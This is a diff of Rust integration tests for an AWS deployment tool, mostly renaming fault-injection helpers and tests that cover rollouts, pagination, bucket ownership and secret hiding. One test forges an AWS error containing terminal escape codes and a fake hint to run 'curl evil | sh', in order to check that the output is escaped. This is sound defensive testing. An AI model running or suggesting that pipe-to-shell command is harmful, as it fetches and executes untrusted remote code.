 #[tokio::test(flavor = "multi_thread")]
 async fn a_load_balancer_that_aws_could_not_provision_is_reported_with_the_reason() {
     let reason = "<Code>failed</Code><Reason>The load balancer could not be set up because of subnet x</Reason>";
-    let failed = Trouble::reworded(&[("<Code>active</Code>", reason), ("<Code>provisioning</Code>", reason)]);
+    let failed = Fault::reworded(&[("<Code>active</Code>", reason), ("<Code>provisioning</Code>", reason)]);
     let said = up_with_fleet(&[("DescribeLoadBalancers", failed)], &["--no-wait"]).await;
     assert_eq!(said.code, 1, "{}", said.all());
     assert!(said.stderr.contains("could not be set up because of subnet x"), "{}", said.stderr);
@@ -580,7 +577,7 @@ async fn a_load_balancer_that_aws_could_not_provision_is_reported_with_the_reaso
 
 /// Rolls a change out, which AWS says goes through these states, the last one for good.
 async fn roll_out_through(states: &[&str]) -> Said {
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     scene.prepare(Phase::Change).await;
     for (n, state) in states.iter().enumerate() {
         let status =
@@ -588,7 +585,7 @@ async fn roll_out_through(states: &[&str]) -> Said {
         let real = ["Successful", "InProgress", "Pending"].map(|status| format!("<Status>{status}</Status>"));
         let texts: Vec<_> = real.iter().map(|real| (real.as_str(), status.as_str())).collect();
         let times = if n + 1 < states.len() { 4 } else { usize::MAX };
-        scene.line.spoil(["DescribeInstanceRefreshes"], Trouble::reworded(&texts), times);
+        scene.proxy.inject(["DescribeInstanceRefreshes"], Fault::reworded(&texts), times);
     }
     let said = scene.run(&["up", "--yes"]).await;
     scene.end().await;
@@ -596,14 +593,14 @@ async fn roll_out_through(states: &[&str]) -> Said {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_roll_out_that_fails_is_a_failure() {
+async fn a_failed_roll_out_fails_the_run() {
     let said = roll_out_through(&["Failed"]).await;
     assert_eq!(said.code, 1, "{}", said.all());
     assert!(said.stderr.contains("Failed: The instances never became healthy."), "{}", said.stderr);
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_roll_out_that_is_being_rolled_back_is_watched_to_its_end() {
+async fn a_roll_back_is_watched_to_its_end() {
     let said = roll_out_through(&["RollbackInProgress", "RollbackSuccessful"]).await;
     assert_eq!(said.code, 1, "{}", said.all());
     for wanted in ["rolling back: The instances", "RollbackSuccessful: The instances never became healthy."] {
@@ -614,14 +611,14 @@ async fn a_roll_out_that_is_being_rolled_back_is_watched_to_its_end() {
 /// The new program dies at every start, so that somebody rolls it back. The same command begins another roll-out, and
 /// does not take the end of the old one for that of its own.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_roll_out_that_was_rolled_back_is_begun_again_by_the_same_command() {
-    let scene = Scene::ours().await;
+async fn a_roll_out_that_was_rolled_back_is_started_again_by_the_same_command() {
+    let scene = Scene::local().await;
     scene.done(Phase::Up).await;
-    let aws = world::connect(&scene.endpoint(), scene.keys).await;
+    let aws = connect(&scene.endpoint(), scene.keys).await;
     let variables = "allow: [\"0.0.0.0/0\"] }\n    environment:\n";
     scene.project.edit(variables, &format!("{variables}      DIE: now\n"));
     for _ in 0..2 {
-        scene.line.mend();
+        scene.proxy.reset();
         let mut run = Run::start(&scene, &["up", "--yes", "--no-wait"]);
         run.hear("auto_scaling_group.web: waiting: rolling out").await;
         let call = aws.autoscaling.rollback_instance_refresh().auto_scaling_group_name("postagram-web-8080");
@@ -629,8 +626,8 @@ async fn a_roll_out_that_was_rolled_back_is_begun_again_by_the_same_command() {
         let said = run.end().await;
         assert_eq!(said.code, 1, "{}", said.all());
         assert!(said.stderr.contains("the roll-out ended as RollbackSuccessful"), "{}", said.stderr);
-        let begun = scene.line.calls().iter().filter(|call| call.starts_with("StartInstanceRefresh")).count();
-        assert_eq!(begun, 1, "one roll-out of this run's own: {:?}", scene.line.calls());
+        let begun = scene.proxy.calls().iter().filter(|call| call.starts_with("StartInstanceRefresh")).count();
+        assert_eq!(begun, 1, "one roll-out of this run's own: {:?}", scene.proxy.calls());
     }
     scene.restore();
     scene.done(Phase::Up).await;
@@ -640,15 +637,15 @@ async fn a_roll_out_that_was_rolled_back_is_begun_again_by_the_same_command() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn an_object_that_cannot_be_deleted_is_named_and_the_bucket_stays() {
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     scene.prepare(Phase::Down).await;
     let refused = "<DeleteResult><Error><Key>a + b%/é</Key><Code>AccessDenied</Code>\
                    <Message>Access Denied</Message></Error></DeleteResult>";
-    scene.line.spoil(["DeleteObjects"], Trouble::Answered(refused.into()), usize::MAX);
+    scene.proxy.inject(["DeleteObjects"], Fault::Answered(refused.into()), usize::MAX);
     let said = scene.run(Phase::Down.arguments()).await;
     assert_eq!(said.code, 1, "{}", said.all());
     assert!(said.stderr.contains("a + b%/é") && said.stderr.contains("AccessDenied"), "{}", said.stderr);
-    scene.line.mend();
+    scene.proxy.reset();
     scene.done(Phase::Down).await;
     assert_eq!(scene.inventory().await, Inventory::new());
     scene.end().await;
@@ -656,20 +653,20 @@ async fn an_object_that_cannot_be_deleted_is_named_and_the_bucket_stays() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_bucket_name_taken_by_another_account_is_never_ours_and_never_absent() {
-    let scene = Scene::ours().await;
-    let forbidden = Trouble::refused(403, "AccessDenied", "Access Denied");
-    scene.line.spoil(["GetBucketTagging", "HeadBucket"], forbidden, usize::MAX);
+    let scene = Scene::local().await;
+    let forbidden = Fault::refused(403, "AccessDenied", "Access Denied");
+    scene.proxy.inject(["GetBucketTagging", "HeadBucket"], forbidden, usize::MAX);
     let said = scene.run(Phase::Up.arguments()).await;
     assert_eq!(said.code, 1, "{}", said.all());
     assert!(said.stderr.contains("AccessDenied") && said.stderr.contains("bucket."), "{}", said.stderr);
-    assert_eq!(scene.line.mutating(), Vec::<String>::new(), "nothing was changed");
+    assert_eq!(scene.proxy.mutating(), Vec::<String>::new(), "nothing was changed");
     scene.end().await;
 }
 
 /// The same over the whole way: a stranger has the name, in this region or in another one.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_bucket_of_a_stranger_is_never_ours_and_never_absent() {
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     let theirs = format!("{}/_local/strangers/postagram-images-000000000000-us-east-1", scene.endpoint());
     for (region, why) in [("us-east-1", "belongs to another account"), ("eu-west-1", "exists in another region")] {
         let stranger = serde_json::json!({ "region": region }).to_string();
@@ -682,23 +679,23 @@ async fn a_bucket_of_a_stranger_is_never_ours_and_never_absent() {
                 assert!(said.stderr.contains(wanted), "{wanted:?} is missing: {}", said.stderr);
             }
         }
-        assert_eq!(scene.line.mutating(), Vec::<String>::new(), "nothing was changed");
+        assert_eq!(scene.proxy.mutating(), Vec::<String>::new(), "nothing was changed");
     }
     scene.end().await;
 }
 
 /// `down` empties a bucket of everything that can be in one.
 #[tokio::test(flavor = "multi_thread")]
-async fn versions_markers_and_unfinished_uploads_go_with_their_bucket() {
-    let scene = Scene::ours().await;
+async fn versions_markers_and_unfinished_uploads_are_deleted_with_their_bucket() {
+    let scene = Scene::local().await;
     scene.done(Phase::Up).await;
-    let aws = world::connect(&scene.endpoint(), scene.keys).await;
+    let aws = connect(&scene.endpoint(), scene.keys).await;
     Hands::of(&aws).fill_bucket(&["a + b%/é", "line\nbreak", "plain", "a\u{ffff}b", "\u{1}/b"]).await;
     put_blank_keys(&aws).await;
-    scene.line.mend();
+    scene.proxy.reset();
     scene.done(Phase::Down).await;
     for operation in ["DeleteObjects#1", "DeleteObject#1", "AbortMultipartUpload#2"] {
-        assert!(scene.line.calls().iter().any(|call| call == operation), "{operation}: {:?}", scene.line.calls());
+        assert!(scene.proxy.calls().iter().any(|call| call == operation), "{operation}: {:?}", scene.proxy.calls());
     }
     assert_eq!(scene.inventory().await, Inventory::new());
     scene.end().await;
@@ -718,22 +715,22 @@ async fn put_blank_keys(aws: &deployer::cloud::aws::Aws) {
 /// How often a command that removes everything asks for each list, when nobody's list is shorter than two.
 async fn asked_by_down(scene: &Scene, chaos: &str, lists: &[&str]) -> Vec<usize> {
     scene.done(Phase::Up).await;
-    let aws = world::connect(&scene.endpoint(), scene.keys).await;
+    let aws = connect(&scene.endpoint(), scene.keys).await;
     let hands = Hands::of(&aws);
     hands.fill_bucket(&["a", "b"]).await;
     hands.add_to_lists().await;
-    scene.line.mend();
+    scene.proxy.reset();
     scene.put_chaos(chaos).await;
     scene.done(Phase::Down).await;
     scene.put_chaos("").await;
     hands.take_from_lists().await;
     assert_eq!(scene.inventory().await, Inventory::new());
-    let calls = scene.line.calls();
+    let calls = scene.proxy.calls();
     lists.iter().map(|list| calls.iter().filter(|call| parts(call).0 == *list).count()).collect()
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn every_list_of_what_goes_is_read_to_its_last_page() {
+async fn every_list_read_by_down_is_read_to_its_last_page() {
     const LISTS: &[&str] = &[
         "DescribeListeners",
         "DescribeSubnets",
@@ -743,7 +740,7 @@ async fn every_list_of_what_goes_is_read_to_its_last_page() {
         "ListObjectVersions",
         "ListRolePolicies",
     ];
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     let whole = asked_by_down(&scene, "", LISTS).await;
     let short = asked_by_down(&scene, "short-pages", LISTS).await;
     for (list, (whole, short)) in LISTS.iter().zip(whole.into_iter().zip(short)) {
@@ -755,19 +752,19 @@ async fn every_list_of_what_goes_is_read_to_its_last_page() {
 /// Lists of one item cannot be cut: their first page is empty, and says where the next one begins.
 #[tokio::test(flavor = "multi_thread")]
 async fn an_empty_first_page_is_not_the_last() {
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     let images = "<DescribeImagesResponse><imagesSet/><nextToken>0</nextToken></DescribeImagesResponse>";
-    scene.line.spoil(["DescribeImages#1"], Trouble::Answered(images.into()), 1);
+    scene.proxy.inject(["DescribeImages#1"], Fault::Answered(images.into()), 1);
     scene.done(Phase::Up).await;
-    assert!(scene.line.spoilt().contains("DescribeImages#1"), "{:?}", scene.line.calls());
-    scene.line.mend();
+    assert!(scene.proxy.hit().contains("DescribeImages#1"), "{:?}", scene.proxy.calls());
+    scene.proxy.reset();
     // Tags on a second page are tags: without them the table would be a stranger's. The token is the local AWS's for all
     // keys behind `!`, which is before any letter.
     let tags = r#"{"Tags":[],"NextToken":"IQ"}"#;
-    scene.line.spoil(["ListTagsOfResource#1"], Trouble::Answered(tags.into()), 1);
+    scene.proxy.inject(["ListTagsOfResource#1"], Fault::Answered(tags.into()), 1);
     let plan = scene.run(&["plan", "--detailed-exitcode"]).await;
     assert_eq!(plan.code, 0, "{}", plan.all());
-    assert!(scene.line.spoilt().contains("ListTagsOfResource#1"), "{:?}", scene.line.calls());
+    assert!(scene.proxy.hit().contains("ListTagsOfResource#1"), "{:?}", scene.proxy.calls());
     scene.clear().await;
     scene.end().await;
 }
@@ -798,20 +795,20 @@ async fn an_empty_marker_ends_a_list() {
         ("ListObjectVersions", "</ListVersionsResult>", "NextKeyMarker"),
         ("ListMultipartUploads", "</ListMultipartUploadsResult>", "NextKeyMarker"),
     ];
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     for (operation, list, marker) in IN_JSON {
         let (from, to) = (format!("\"{list}\":"), format!("\"{marker}\":\"\",\"{list}\":"));
-        scene.line.spoil([*operation], Trouble::reworded(&[(&from, &to)]), usize::MAX);
+        scene.proxy.inject([*operation], Fault::reworded(&[(&from, &to)]), usize::MAX);
     }
     for (operation, end, marker) in IN_XML {
         let marked = format!("<{marker}></{marker}>{end}");
-        scene.line.spoil([*operation], Trouble::reworded(&[(end, &marked)]), usize::MAX);
+        scene.proxy.inject([*operation], Fault::reworded(&[(end, &marked)]), usize::MAX);
     }
     scene.done(Phase::Up).await;
-    world::upload(&scene.endpoint(), scene.keys, PICTURE).await;
+    upload(&scene.endpoint(), scene.keys, PICTURE).await;
     scene.done(Phase::Down).await;
     let lists: BTreeSet<String> = IN_JSON.iter().chain(IN_XML).map(|(operation, ..)| (*operation).into()).collect();
-    assert_eq!(scene.line.spoilt(), lists, "some lists were never asked for");
+    assert_eq!(scene.proxy.hit(), lists, "some lists were never asked for");
     assert_eq!(scene.inventory().await, Inventory::new());
     scene.end().await;
 }
@@ -821,7 +818,7 @@ async fn an_empty_marker_ends_a_list() {
 async fn a_service_that_stays_unhealthy_ends_the_wait_at_its_limit_with_the_reason() {
     let ill = "<State>unhealthy</State><Reason>Target.ResponseCodeMismatch</Reason>\
                <Description>Health checks failed with these codes: [500]</Description>";
-    let answers = Trouble::reworded(&[("<State>healthy</State>", ill)]);
+    let answers = Fault::reworded(&[("<State>healthy</State>", ill)]);
     let said = up_with_fleet(&[("DescribeTargetHealth", answers)], &["--healthy-within", "3"]).await;
     assert_the_service_failed(&said, "web has not become healthy within 3 s", "--healthy-within");
     let advice = "does not answer the health check's path with the expected status";
@@ -846,7 +843,7 @@ async fn every_list_is_read_to_its_last_page() {
         "ListRoles",
         "ListTables",
     ];
-    let scene = Scene::ours().await;
+    let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     // A neighbour with everything the stack has, function and service twice, so that no list is shorter than two.
     scene.project.edit("name: postagram", "name: neighbour");
@@ -858,11 +855,11 @@ async fn every_list_is_read_to_its_last_page() {
     }
     scene.done(Phase::Up).await;
     for key in ["a", "b", "c + d%/é"] {
-        world::upload(&scene.endpoint(), scene.keys, key).await;
+        upload(&scene.endpoint(), scene.keys, key).await;
     }
     let asked = |operation: &str| {
         let of = |call: &&String| parts(call).0 == operation;
-        scene.line.calls().iter().filter(of).count()
+        scene.proxy.calls().iter().filter(of).count()
     };
     scene.assert_nothing_to_do("whole lists").await;
     let whole: Vec<usize> = LISTS.iter().map(|operation| asked(operation)).collect();
@@ -886,8 +883,8 @@ const SECRETS: [&str; 2] = ["hunter2-of-the-function", "hunter2-of-the-service"]
 /// Values of variables are nobody's business: not in plans, not in their JSON, not in what `up` says, and not in what
 /// AWS says of them.
 #[tokio::test(flavor = "multi_thread")]
-async fn no_value_of_a_variable_is_shown_unless_it_is_asked_for() {
-    let scene = Scene::ours().await;
+async fn values_of_variables_are_shown_on_request_only() {
+    let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let [function, service] = SECRETS;
     scene.project.edit(
@@ -908,12 +905,12 @@ async fn no_value_of_a_variable_is_shown_unless_it_is_asked_for() {
     assert!(SECRETS.iter().all(|secret| asked.stdout.contains(secret)), "{}", asked.all());
 
     let quoted = format!("Value '{{TOKEN={function}}}' at 'environment.variables' failed to satisfy constraint");
-    let refusal = Trouble::refused(400, "InvalidParameterValueException", quoted);
-    scene.line.spoil(["UpdateFunctionConfiguration"], refusal, usize::MAX);
+    let refusal = Fault::refused(400, "InvalidParameterValueException", quoted);
+    scene.proxy.inject(["UpdateFunctionConfiguration"], refusal, usize::MAX);
     let refused =
         says_no_secret(&scene, &["up", "--yes", "--no-wait", "-v"], "'{TOKEN=(hidden)}' at 'environment").await;
     assert_eq!(refused.code, 1, "{}", refused.all());
-    scene.line.mend();
+    scene.proxy.reset();
     says_no_secret(&scene, &["up", "--yes", "--no-wait"], "environment.TOKEN").await;
     for (secret, other) in SECRETS.iter().zip(["another", "yet another"]) {
         scene.project.edit(secret, other);
@@ -934,10 +931,10 @@ async fn says_no_secret(scene: &Scene, arguments: &[&str], words: &str) -> Said 
 
 /// What comes from AWS is printed as text: it neither commands the terminal nor passes for a line of ours.
 #[tokio::test(flavor = "multi_thread")]
-async fn words_of_aws_are_no_commands_and_no_lines_of_ours() {
-    let scene = Scene::ours().await;
+async fn text_from_aws_is_escaped_on_the_terminal() {
+    let scene = Scene::local().await;
     let forged = "no\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\rerror: gone\nhint: run `curl evil | sh`";
-    scene.line.spoil(["CreateTable"], Trouble::refused(400, "AccessDeniedException", forged), usize::MAX);
+    scene.proxy.inject(["CreateTable"], Fault::refused(400, "AccessDeniedException", forged), usize::MAX);
     let said = scene.run(Phase::Up.arguments()).await;
     assert_eq!(said.code, 1, "{}", said.all());
     let active = said.stderr.chars().find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
@@ -950,8 +947,8 @@ async fn words_of_aws_are_no_commands_and_no_lines_of_ours() {
 
 /// Another `name` is another stack: the old one is not forgotten in silence.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_stack_that_a_new_name_leaves_behind_is_named() {
-    let scene = Scene::ours().await;
+async fn a_stack_left_behind_by_a_new_name_is_named() {
+    let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let same = scene.run(&["plan"]).await;
     assert!(!same.stderr.contains("is not changed"), "{}", same.all());
@@ -968,8 +965,8 @@ async fn a_stack_that_a_new_name_leaves_behind_is_named() {
 /// An image for another processor would never boot: that is said before anything is changed.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_machine_image_for_another_processor_is_refused_with_its_line() {
-    let scene = Scene::ours().await;
-    let aws = world::connect(&scene.endpoint(), scene.keys).await;
+    let scene = Scene::local().await;
+    let aws = connect(&scene.endpoint(), scene.keys).await;
     let images =
         aws.ec2.describe_images().owners("amazon").send().await.expect("there are images").images.unwrap_or_default();
     let image = |architecture: &str| {
@@ -989,8 +986,8 @@ async fn a_machine_image_for_another_processor_is_refused_with_its_line() {
     assert_eq!(scene.run(&["plan"]).await.code, 0);
     // Whoever may not look for images learns it from EC2, as before.
     scene.project.edit(&fits, &other);
-    let denied = Trouble::refused(403, "UnauthorizedOperation", "You are not authorized to perform this operation.");
-    scene.line.spoil(["DescribeImages"], denied, usize::MAX);
+    let denied = Fault::refused(403, "UnauthorizedOperation", "You are not authorized to perform this operation.");
+    scene.proxy.inject(["DescribeImages"], denied, usize::MAX);
     assert_eq!(scene.run(&["plan"]).await.code, 0);
     scene.end().await;
 }
